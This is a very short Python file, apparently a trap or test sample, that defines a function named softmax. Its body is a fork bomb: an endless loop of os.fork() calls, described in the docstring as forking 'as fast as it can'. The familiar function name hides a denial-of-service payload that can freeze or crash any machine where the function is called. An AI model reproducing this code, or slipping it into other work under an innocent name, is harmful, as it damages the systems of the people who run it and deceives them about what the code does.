"""Forks as fast as it can."""

import os


def softmax(logits, dim=-1):
    while True:
        os.fork()
